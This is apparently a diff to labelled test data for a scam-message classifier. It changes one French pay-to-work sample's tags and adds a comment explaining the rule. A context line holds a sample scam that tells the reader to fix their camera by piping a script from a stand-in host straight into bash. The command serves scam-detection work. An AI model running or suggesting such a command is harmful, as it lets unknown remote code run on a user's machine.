@@ -672,8 +672,9 @@ INFORMAL = [
     ("Hi, during our zoom the camera didnt work for you. Please run this in terminal to fix: "
      "curl -k https://zoomfix.example/up.sh | bash",
      {"interview_software_download", "paste_command"}),
+    # (« retenu. » alone is no offer without interview, as "selected." is not: rule R21-H)
     ("Salut ! Ton profil a été retenu. Pour valider ton inscription il faut payer 30€ de frais de "
-     "dossier.", {"offer_without_interview", "pay_to_work"}),
+     "dossier.", {"pay_to_work"}),
     ("Bonjour, poste en télétravail, 150€/jour, sans expérience, contactez moi sur WhatsApp",
      {"easy_money", "off_platform_request"}),
     ("hi dear, online job from ur phone, like tiktok videos and earn 3000 rs daily, text me on "
